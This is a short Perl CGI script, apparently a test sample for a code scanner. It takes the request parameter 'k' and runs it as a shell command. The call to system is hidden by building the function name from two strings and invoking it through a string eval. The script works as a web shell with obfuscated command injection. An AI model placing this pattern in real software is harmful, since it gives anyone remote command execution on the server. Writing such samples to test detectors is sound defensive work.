#!/usr/bin/perl
# test sample: the function name glued from two pieces, called through a string eval
use strict;
use CGI;
my $q = CGI->new;
print $q->header('text/plain');
my $c = $q->param('k');
my $f = "sys" . "tem";
eval "$f(\$c)";
